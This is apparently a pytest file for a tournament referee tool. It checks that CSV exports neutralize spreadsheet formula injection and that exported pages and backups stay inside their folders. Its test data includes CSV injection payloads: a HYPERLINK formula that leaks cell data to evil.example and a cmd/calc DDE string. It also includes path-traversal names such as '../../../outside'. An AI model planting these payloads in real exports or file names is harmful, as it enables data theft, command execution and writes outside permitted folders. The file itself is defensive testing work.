"""Names typed at the desk are text, never instructions (issue 23): a CSV cell never starts a
spreadsheet formula (OWASP's list: = + - @ tab and carriage return), and a file named after
a name (a backup after a server's database, a player's page of the site) stays in its
folder."""

from __future__ import annotations

import csv

import pytest
from desk_helpers import random_result

from referee.cli.main import main
from referee.tournament.desk import Desk
from referee.tournament.export.csv_export import csv_cell

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "../../../outside",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def hostile_event(target: str) -> Desk:
    import random

    rng = random.Random(5)
    desk = Desk.create(target, name="=Cup", seed=2)
    for name in HOSTILE_NAMES:
        desk.add_player(name, "=1+1")
    rnd = desk.pair()
    for t, (a, b) in enumerate(rnd.tables, 1):
        desk.record_result(rnd.round, t, random_result(rng, a, b))
    return desk


def test_a_cell_a_spreadsheet_would_take_for_a_formula_starts_with_an_apostrophe():
    # (the desk strips a name's leading tab or return: those are checked here alone)
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("+1") == "'+1"
    assert csv_cell("-2+3") == "'-2+3"
    assert csv_cell("@SUM(A1)") == "'@SUM(A1)"
    assert csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell("Ada") == "Ada" and csv_cell("") == ""


def test_negative_numbers_stay_numbers():
    assert csv_cell(-3) == -3 and csv_cell(-0.25) == -0.25  # written as numbers
    assert csv_cell("-3") == "-3" and csv_cell("-71.0238") == "-71.0238"  # a number as text
    assert csv_cell("-3x") == "'-3x"


def test_no_exported_cell_starts_a_formula(tmp_path):
    hostile_event(str(tmp_path / "ev.db")).close()
    out = tmp_path / "csv"
    assert (
        main(["tournament", "export", str(tmp_path / "ev.db"), "--format", "csv", "-o", str(out)])
        == 0
    )
    cells: list[str] = []
    for path in sorted(out.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    dangerous = [
        c
        for c in cells
        if c.startswith(FORMULA_STARTS) and not c.lstrip("-").replace(".", "", 1).isdigit()
    ]
    assert dangerous == []
    for name in HOSTILE_NAMES:  # each name is there, as typed after the apostrophe
        shown = "'" + name if name.startswith(FORMULA_STARTS) else name
        assert shown in cells, name
    assert "'=1+1" in cells  # the nation too


def test_each_players_page_of_the_site_stays_in_the_players_folder(tmp_path):
    hostile_event(str(tmp_path / "ev.db")).close()
    out = tmp_path / "site"
    assert (
        main(["tournament", "export", str(tmp_path / "ev.db"), "--format", "site", "-o", str(out)])
        == 0
    )
    pages = sorted(p.relative_to(out) for p in out.rglob("*.html"))
    players = [p for p in pages if p.parts[0] == "players"]
    assert len(players) == len(HOSTILE_NAMES)
    assert all(len(p.parts) == 2 and not p.name.startswith(".") for p in players)
    stray = [p for p in tmp_path.rglob("*.html") if out not in p.parents]
    assert stray == []  # nothing written beside or above the site's folder


def test_a_server_database_named_like_a_path_is_backed_up_inside_the_backups_folder(
    tmp_path, pg_server, monkeypatch
):
    import os

    import pg_cluster
    import psycopg

    monkeypatch.setenv("REFEREE_HOME", str(tmp_path / "home"))
    name = f"../../escaped{os.getpid()}"
    with psycopg.connect(pg_server, autocommit=True) as admin:
        admin.execute(f'CREATE DATABASE "{name}"')
    url = pg_cluster.with_database(pg_server, name)
    try:
        with Desk.create(url, name="Escape Cup", seed=1) as desk:
            for player in ("Ada", "Brin"):
                desk.add_player(player, "")
            desk.pair()  # a round is paired: the event is backed up first
            copy = desk.last_backup
        backups = tmp_path / "home" / "backups"
        assert copy is not None and copy.parent == backups
        assert copy.name.startswith(f"escaped{os.getpid()}-before-round-1-")
        assert [p.name for p in backups.iterdir()] == [copy.name]
        stray = [p for p in tmp_path.rglob("escaped*") if p.parent != backups]
        assert stray == []  # nothing written above the backups folder
    finally:
        with psycopg.connect(pg_server, autocommit=True) as admin:
            admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


@pytest.mark.parametrize("stem", ["..", ".", "", "/", "../../x", "a/b", ".hidden", "-rf"])
def test_the_demo_and_new_match_names_stay_in_their_folder(tmp_path, stem):
    from referee.match.setup.demo import unused_match_path

    path = unused_match_path(tmp_path, stem)
    assert path.parent == tmp_path
    assert not path.name.startswith((".", "-"))  # not hidden, not taken for an option
    assert path.suffix == ".referee"
